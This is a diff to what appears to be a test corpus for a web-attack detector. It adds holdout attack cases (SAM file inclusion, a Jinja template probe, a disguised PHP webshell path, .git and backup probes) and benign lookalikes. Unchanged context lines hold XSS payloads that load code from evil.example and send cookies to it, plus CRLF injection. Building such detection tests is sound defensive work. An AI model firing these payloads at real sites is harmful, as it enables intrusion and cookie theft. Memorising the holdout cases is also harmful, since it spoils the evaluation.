@@ -565,6 +565,11 @@ const HOLDOUT_4_ATTACKS: CorpusEntry[] = [
   { category: 'xss', name: 'holdout-4: a dynamic import in a custom header', why: 'A header shown by an admin page that loads a remote module', path: '/api/health', headers: { 'Client-Note': "import('//evil.example/x.js')" } },
   { category: 'xss', name: 'holdout-4: the cookie read by a bracketed name in a JSON field', why: 'document["cookie"] passes filters that look for document.cookie', method: 'POST', path: '/api/notes', headers: bearer, json: { body: 'x";new Image().src="//evil.example/?"+document["cookie"];//' } },
   { category: 'protocol', name: 'holdout-4: CR/LF with each hex digit percent-encoded in the path', why: '%25%30%44%25%30%41 is %0D%0A once decoded: response splitting where the application decodes twice', path: '/api/auth/callback/%25%30%44%25%30%41Set-Cookie:session=attacker' },
+  { category: 'lfi-rfi', name: 'holdout-4: a Windows system file in a cookie', why: 'The SAM backup of an NT system folder, through a template cookie', path: '/dashboard', headers: { Cookie: 'theme=dark; template=C:/WINNT/Repair/SAM' } },
+  { category: 'cmdi', name: 'holdout-4: the Jinja self object in a form field', why: '{{self}} dumps the template context: the probe before a globals walk', method: 'POST', path: '/api/feedback', headers: form, body: `comment=${pct('{{self}}')}` },
+  { category: 'scanner', name: 'holdout-4: a PHP web shell behind a path parameter', why: 'shell.php;.png passes an extension check that reads the end', path: '/uploads/shell.php;.png' },
+  { category: 'scanner', name: 'holdout-4: the git folder', why: 'An exposed .git folder gives the source away', path: '/.git' },
+  { category: 'scanner', name: 'holdout-4: a database dump at the root', why: 'Scanners guess backup archives', path: '/backup/db.sql.gz' },
   { category: 'xss', name: 'holdout-4: XMLHttpRequest in the User-Agent', why: 'A log viewer that renders user agents runs it', path: '/api/health', headers: { 'User-Agent': "x=new XMLHttpRequest();x.open('GET','/api/me');x.send()" } },
 ];
 
@@ -577,6 +582,8 @@ const HOLDOUT_4_BENIGN: CorpusEntry[] = [
   { category: 'write', name: 'holdout-4: a POST without a body', why: 'Actions such as cancel send no body and no Content-Type', raw: 'POST /api/runs/5f0c1e8a/cancel HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer rt_9f8e7d6c\r\nContent-Length: 0\r\n\r\n' },
   { category: 'read', name: 'holdout-4: alert as a severity in lists', why: 'An ops platform filters by severities, one of them named alert', path: '/api/alerts?severity=warning,alert&levels=(info,alert)&sort=-created_at', headers: bearer },
   { category: 'write', name: 'holdout-4: a question about computed calls and tagged templates', why: 'Front-end code in a prompt (an API body)', method: 'POST', path: '/api/runs', headers: bearer, json: prompt('Why does window[handlerName](event) throw here, and what does String.raw.call`x` return? Also [1,2,3].with(0, alert) in the docs.') },
+  { category: 'read', name: 'holdout-4: an export archive, a PHP slug and a Windows user path', why: 'Archives under /api are exports; a wiki page may be about PHP; a cookie may keep a document path', path: '/api/exports/runs-2026-11.zip', headers: { ...bearer, Cookie: 'last_file=C:/Users/ana/Documents/report.docx' } },
+  { category: 'read', name: 'holdout-4: a wiki page about PHP', why: 'Slugs name languages and file types', path: '/api/wiki/php-vs-python/migrating-index.php-routes', headers: bearer },
   { category: 'write', name: 'holdout-4: a question about document.cookie', why: 'Front-end questions name the cookie API in a prompt', method: 'POST', path: '/api/runs', headers: bearer, json: prompt('How do I read document.cookie in a Jest test, and why is it empty under jsdom?') },
   { category: 'write', name: 'holdout-4: form values that start with on', why: 'ongoing, onboarding, online and "on error" are words, /onload/settings a path', method: 'POST', path: '/api/feedback', headers: { ...bearer, ...form }, body: 'status=ongoing&topic=onboarding&comment=one-off%20fix%2C%20online%20now%3B%20on%20error%20we%20retry&next=%2Fonload%2Fsettings' },
 ];
